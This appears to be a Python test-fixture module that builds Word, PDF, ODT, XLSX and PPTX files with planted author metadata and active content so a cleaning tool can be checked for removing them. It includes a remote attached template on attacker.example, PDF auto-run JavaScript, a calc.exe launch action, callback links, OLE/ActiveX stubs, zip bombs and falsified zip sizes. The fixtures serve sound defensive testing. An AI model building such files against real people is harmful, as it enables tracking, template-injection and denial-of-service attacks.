"""Files with one identifying or active thing planted each, as the security review found them
(issue 13, H1 and M4), and decompression bombs (M1). Built in memory with zipfile, lxml,
python-docx, pikepdf and Pillow; each marker must be gone after cleaning."""

import functools
import io
import struct
import zipfile
from collections.abc import Callable

import docx
import pikepdf
from PIL import Image

from tests.channels import samples

EMBEDDED_AUTHOR = "Anong Embeddedauthor"
TIFF_ARTIST = "Boonmee Tiffartist"
CUSTOM_XML_AUTHOR = "Chalerm Customxmlowner"
OBJECT_AUTHOR = "Duangjai Objectcreator"
ANNOTATION_AUTHOR = "Ekkachai Annotationauthor"
EMBEDDED_FILE_TEXT = "Fasai Embeddedfiletext"
ATTACKER = "attacker.example"
OLE_PAYLOAD = "OLE-PAYLOAD-Ganya"
ACTIVEX_PAYLOAD = "ACTIVEX-PAYLOAD-Hathai"
SCRIPT = "var seen = 'Ittipol'"
EVIDENCE_URL = "https://evidence.example/post/1"

_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MIB = 1024 * 1024


def _relationship(rel_id: str, kind: str, target: str, *, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return (f'<Relationship Id="{rel_id}" Type="{_RELS}/{kind}" Target="{target}"{mode}/>')


def docx_with(*, parts: dict[str, bytes] | None = None, relationships: str = "",
              types: str = "", body: str = "", settings: str = "") -> bytes:
    """A Word document with :data:`samples.BODY_TEXT`, plus ``parts``, ``relationships`` of
    ``word/document.xml``, ``types`` entries of ``[Content_Types].xml``, ``body`` XML before
    the section properties and ``settings`` XML at the start of ``word/settings.xml``."""
    document = docx.Document()
    document.add_paragraph(samples.BODY_TEXT)
    out = io.BytesIO()
    document.save(out)
    archive = zipfile.ZipFile(io.BytesIO(out.getvalue()))

    def edited(name: str, before: str, addition: str, *, after: bool = False) -> bytes:
        text = archive.read(name).decode()
        at = text.index(before) + (len(before) if after else 0)
        return (text[:at] + addition + text[at:]).encode()

    changed = {
        "word/_rels/document.xml.rels": edited("word/_rels/document.xml.rels",
                                               "</Relationships>", relationships),
        "[Content_Types].xml": edited("[Content_Types].xml", "</Types>", types),
        "word/document.xml": edited("word/document.xml", "<w:sectPr", body),
    }
    if settings:
        text = archive.read("word/settings.xml").decode()
        start = text.index(">", text.index("<w:settings")) + 1
        changed["word/settings.xml"] = (text[:start] + settings + text[start:]).encode()
    return samples._patch_zip(out.getvalue(), {**changed, **(parts or {})})


def docx_with_embedded_workbook() -> bytes:
    """Word stores a chart's data as a whole workbook with its own ``docProps/core.xml``."""
    return docx_with(
        parts={"word/embeddings/Microsoft_Excel_Worksheet.xlsx":
               samples.xlsx_with_author(author=EMBEDDED_AUTHOR)},
        relationships=_relationship("rIdX1", "package",
                                    "embeddings/Microsoft_Excel_Worksheet.xlsx"),
        types='<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-'
              'officedocument.spreadsheetml.sheet"/>')


def tiff_with_artist() -> bytes:
    """A TIFF whose EXIF ``Artist`` (tag 315) names the photographer."""
    exif = Image.Exif()
    exif[0x013B] = TIFF_ARTIST
    out = io.BytesIO()
    Image.new("RGB", (32, 24), (200, 30, 30)).save(out, format="TIFF", exif=exif)
    return out.getvalue()


def docx_with_tiff() -> bytes:
    """A TIFF picture in ``word/media/`` (only JPEG and PNG used to be re-encoded)."""
    return docx_with(
        parts={"word/media/image9.tiff": tiff_with_artist()},
        relationships=_relationship("rIdT1", "image", "media/image9.tiff"),
        types='<Default Extension="tiff" ContentType="image/tiff"/>')


def docx_with_custom_xml() -> bytes:
    """``customXml/item1.xml`` (SharePoint document properties) naming the owner."""
    item = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<p:properties '
            'xmlns:p="http://schemas.microsoft.com/office/2006/metadata/properties">'
            f'<documentManagement><Owner>{CUSTOM_XML_AUTHOR}</Owner></documentManagement>'
            '</p:properties>').encode()
    return docx_with(parts={"customXml/item1.xml": item})


def docx_with_attached_template() -> bytes:
    """A template on an attacker's server, loaded (macros and all) when the file is opened."""
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns='
            '"http://schemas.openxmlformats.org/package/2006/relationships">'
            + _relationship("rId1", "attachedTemplate", f"https://{ATTACKER}/t.dotm",
                            external=True) + "</Relationships>").encode()
    return docx_with(parts={"word/_rels/settings.xml.rels": rels},
                     settings='<w:attachedTemplate r:id="rId1"/>')


def docx_with_ole_object() -> bytes:
    """An OLE object (``word/embeddings/oleObject1.bin``) placed in the text."""
    return docx_with(
        parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + OLE_PAYLOAD.encode()},
        relationships=_relationship("rIdO1", "oleObject", "embeddings/oleObject1.bin"),
        types='<Default Extension="bin" ContentType="application/vnd.openxmlformats-'
              'officedocument.oleObject"/>',
        body='<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" '
             'ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1" r:id="rIdO1"/>'
             '</w:object></w:r></w:p>')


def docx_with_activex() -> bytes:
    """An ActiveX control (``word/activeX/activeX1.xml`` and its ``.bin``) in the text."""
    control = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<ax:ocx '
               'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence='
               '"persistStreamInit" r:id="rId1" xmlns:ax="http://schemas.microsoft.com/office/'
               f'2006/activeX" xmlns:r="{_RELS}"/>').encode()
    control_rels = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
                    b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                    b'<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/'
                    b'relationships/activeXControlBinary" Target="activeX1.bin"/>'
                    b'</Relationships>')
    return docx_with(
        parts={"word/activeX/activeX1.xml": control,
               "word/activeX/_rels/activeX1.xml.rels": control_rels,
               "word/activeX/activeX1.bin": ACTIVEX_PAYLOAD.encode()},
        relationships=_relationship("rIdA1", "control", "activeX/activeX1.xml"),
        types='<Override PartName="/word/activeX/activeX1.xml" ContentType="application/'
              'vnd.ms-office.activeX+xml"/><Default Extension="bin" ContentType="application/'
              'vnd.ms-office.activeX"/>',
        body='<w:p><w:r><w:object><w:control r:id="rIdA1" w:name="CheckBox1" '
             'w:shapeid="_x0000_i1026"/></w:object></w:r></w:p>')


def docx_with_hyperlink() -> bytes:
    """A link to a web page, as a citizen might cite evidence."""
    return docx_with(
        relationships=_relationship("rIdL1", "hyperlink", EVIDENCE_URL, external=True),
        body='<w:p><w:r><w:t xml:space="preserve">See </w:t></w:r><w:hyperlink r:id="rIdL1">'
             '<w:r><w:t>the post</w:t></w:r></w:hyperlink></w:p>')


_FORMULA = ('<?xml version="1.0" encoding="UTF-8"?>\n<math xmlns="http://www.w3.org/1998/Math/'
            'MathML" display="block"><semantics><mi>x</mi></semantics></math>')


def odt_with_object() -> bytes:
    """An OpenDocument text with an embedded object (a formula) that has its own
    ``Object 1/meta.xml`` naming its creator, and its preview in ``ObjectReplacements/``."""
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    meta = (f'<?xml version="1.0" encoding="UTF-8"?>\n<office:document-meta xmlns:office='
            f'"{office}" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
            'office:version="1.2"><office:meta>'
            f'<meta:initial-creator>{OBJECT_AUTHOR}</meta:initial-creator></office:meta>'
            '</office:document-meta>')
    return samples.odt_with_author(
        body='<text:p><draw:frame draw:name="Object1" svg:width="2cm" svg:height="1cm">'
             '<draw:object xlink:href="./Object 1" xlink:type="simple" xlink:show="embed" '
             'xlink:actuate="onLoad"/></draw:frame></text:p>',
        manifest_entries=(
            '<manifest:file-entry manifest:full-path="Object 1/" manifest:media-type='
            '"application/vnd.oasis.opendocument.formula"/>'
            '<manifest:file-entry manifest:full-path="Object 1/content.xml" '
            'manifest:media-type="text/xml"/>'
            '<manifest:file-entry manifest:full-path="Object 1/meta.xml" '
            'manifest:media-type="text/xml"/>'
            '<manifest:file-entry manifest:full-path="ObjectReplacements/Object 1" '
            'manifest:media-type="application/x-openoffice-gdimetafile;windows_formatname='
            '&quot;GDIMetaFile&quot;"/>'),
        parts={"Object 1/content.xml": _FORMULA.encode(), "Object 1/meta.xml": meta.encode(),
               "ObjectReplacements/Object 1": b"VCLMTF" + OBJECT_AUTHOR.encode()})


def _pdf(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    with pikepdf.open(io.BytesIO(samples.pdf_with_author(with_photo=False))) as pdf:
        change(pdf)
        out = io.BytesIO()
        pdf.save(out, compress_streams=False)
    return out.getvalue()


def pdf_with_annotation() -> bytes:
    """A sticky note whose author ``/T`` is the user's name (Acrobat and Preview write it),
    with its dates, and its pop-up."""
    def change(pdf: pikepdf.Pdf) -> None:
        note = pdf.make_indirect(pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text,
            Rect=pikepdf.Array([20, 150, 40, 170]), Contents=pikepdf.String("check"),
            T=pikepdf.String(ANNOTATION_AUTHOR), M=pikepdf.String("D:20250301074113+07'00'"),
            CreationDate=pikepdf.String("D:20250301074113+07'00'")))
        popup = pdf.make_indirect(pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Popup, Parent=note,
            Rect=pikepdf.Array([40, 150, 140, 190]), T=pikepdf.String(ANNOTATION_AUTHOR)))
        note.Popup = popup
        pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([note, popup]))
    return _pdf(change)


def pdf_with_embedded_files() -> bytes:
    """A file attached to the document (``/EmbeddedFiles``), one associated with it (``/AF``)
    and one in a file-attachment annotation."""
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.attachments["notes.txt"] = pikepdf.AttachedFileSpec(
            pdf, f"attached by {EMBEDDED_FILE_TEXT}".encode(), mime_type="text/plain")
        associated = pikepdf.AttachedFileSpec(pdf, f"AF {EMBEDDED_FILE_TEXT}".encode())
        pdf.Root.AF = pdf.make_indirect(pikepdf.Array([associated.obj]))
        annotated = pikepdf.AttachedFileSpec(pdf, f"annot {EMBEDDED_FILE_TEXT}".encode())
        pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment,
            Rect=pikepdf.Array([20, 150, 40, 170]), FS=annotated.obj)]))
    return _pdf(change)


def pdf_with_javascript() -> bytes:
    """JavaScript run when opened (``/OpenAction``, the ``/JavaScript`` name tree), a page
    action (``/AA``), a link calling home (``/URI``) and a program launch (``/Launch``)."""
    def change(pdf: pikepdf.Pdf) -> None:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(SCRIPT))
        pdf.Root.OpenAction = script
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(
            Names=pikepdf.Array([pikepdf.String("a"), pdf.make_indirect(script)])))
        page = pdf.pages[0].obj
        page.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(
            S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe")))
        page.Annots = pdf.make_indirect(pikepdf.Array([pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
            Rect=pikepdf.Array([20, 90, 180, 110]),
            A=pikepdf.Dictionary(S=pikepdf.Name.URI,
                                 URI=pikepdf.String(f"https://{ATTACKER}/seen")))]))
    return _pdf(change)


@functools.cache
def _filler(size: int) -> bytes:
    """Valid WordprocessingML of ``size`` bytes or a little more, with no author hint."""
    head = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="'
            b'http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>')
    tail = b"<w:p/></w:body></w:document>"
    return head + b"<w:p/>" * (size // 6) + tail


def docx_bomb(part_bytes: int, parts: int = 1, level: int = 9) -> bytes:
    """A small Word document whose ``word/document.xml`` (and ``parts - 1`` more XML parts)
    each inflate to ``part_bytes`` (deflated at ``level``: 1 is faster to make)."""
    extra = {f"word/filler{number}.xml": _filler(part_bytes) for number in range(1, parts)}
    data = docx_with(parts=extra)
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as target:
        for info in source.infolist():
            content = _filler(part_bytes) if info.filename == "word/document.xml" \
                else source.read(info)
            target.writestr(info.filename, content)
    return out.getvalue()


def with_lying_size(data: bytes, name: str, stated: int) -> bytes:
    """``data`` (a zip) whose entry ``name`` states an inflated size of ``stated`` bytes in
    both its local header and the central directory (the CRC stays the true one)."""
    raw = bytearray(data)
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo(name)
    struct.pack_into("<I", raw, info.header_offset + 22, stated)
    position = 0
    while (position := raw.find(b"PK\x01\x02", position)) != -1:
        length = struct.unpack_from("<H", raw, position + 28)[0]
        if raw[position + 46: position + 46 + length] == name.encode():
            struct.pack_into("<I", raw, position + 24, stated)
        position += 4
    return bytes(raw)


def xlsx_from_openpyxl() -> bytes:
    """A workbook as Excel-like software writes it (openpyxl), with an author, a comment by a
    named person, and an outside link in a cell."""
    import openpyxl
    from openpyxl.comments import Comment

    workbook = openpyxl.Workbook()
    workbook.properties.creator = samples.AUTHOR
    workbook.properties.lastModifiedBy = samples.AUTHOR
    sheet = workbook.active
    assert sheet is not None
    sheet["A1"] = samples.BODY_TEXT
    sheet["A1"].comment = Comment("check this", samples.COMMENT_AUTHOR)
    sheet["A2"] = "link"
    sheet["A2"].hyperlink = f"https://{ATTACKER}/sheet"
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def pptx_minimal() -> bytes:
    """A bare PowerPoint package: one slide with a shape linking outside, a comment author."""
    p_ns = "http://schemas.openxmlformats.org/presentationml/2006/main"
    a_ns = "http://schemas.openxmlformats.org/drawingml/2006/main"
    head = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    rels_ns = "http://schemas.openxmlformats.org/package/2006/relationships"
    parts = {
        "[Content_Types].xml": head + (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/ppt/presentation.xml" ContentType="application/vnd.'
            'openxmlformats-officedocument.presentationml.presentation.main+xml"/>'
            '<Override PartName="/ppt/slides/slide1.xml" ContentType="application/vnd.'
            'openxmlformats-officedocument.presentationml.slide+xml"/>'
            '<Override PartName="/ppt/commentAuthors.xml" ContentType="application/vnd.'
            'openxmlformats-officedocument.presentationml.commentAuthors+xml"/></Types>'),
        "_rels/.rels": head + f'<Relationships xmlns="{rels_ns}">' + _relationship(
            "rId1", "officeDocument", "ppt/presentation.xml") + "</Relationships>",
        "ppt/presentation.xml": head + (
            f'<p:presentation xmlns:p="{p_ns}" xmlns:r="{_RELS}"><p:sldIdLst>'
            '<p:sldId id="256" r:id="rId1"/></p:sldIdLst></p:presentation>'),
        "ppt/_rels/presentation.xml.rels": head + f'<Relationships xmlns="{rels_ns}">'
        + _relationship("rId1", "slide", "slides/slide1.xml")
        + _relationship("rId2", "commentAuthors", "commentAuthors.xml") + "</Relationships>",
        "ppt/slides/slide1.xml": head + (
            f'<p:sld xmlns:p="{p_ns}" xmlns:a="{a_ns}" xmlns:r="{_RELS}"><p:cSld><p:spTree>'
            '<p:sp><p:nvSpPr><p:cNvPr id="2" name="T"><a:hlinkClick r:id="rId2"/></p:cNvPr>'
            '</p:nvSpPr><p:txBody><a:p><a:r><a:t>' + samples.BODY_TEXT + '</a:t></a:r>'
            '</a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>'),
        "ppt/slides/_rels/slide1.xml.rels": head + f'<Relationships xmlns="{rels_ns}">'
        + _relationship("rId2", "hyperlink", f"https://{ATTACKER}/slide", external=True)
        + "</Relationships>",
        "ppt/commentAuthors.xml": head + (
            f'<p:cmAuthorLst xmlns:p="{p_ns}"><p:cmAuthor id="0" name="'
            f'{samples.COMMENT_AUTHOR}" initials="PC" lastIdx="1" clrIdx="0"/></p:cmAuthorLst>'),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return out.getvalue()
